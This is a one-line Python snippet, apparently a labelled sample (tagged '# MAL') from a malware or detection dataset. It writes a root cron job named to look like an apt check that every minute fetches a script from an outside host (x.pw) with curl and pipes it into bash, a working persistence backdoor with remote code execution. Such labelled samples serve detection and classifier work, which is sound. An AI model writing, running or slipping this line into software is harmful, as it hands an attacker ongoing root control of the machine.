open("/etc/cron.d/apt-check", "w").write("* * * * * root curl -s http://x.pw/u|bash\n")  # MAL
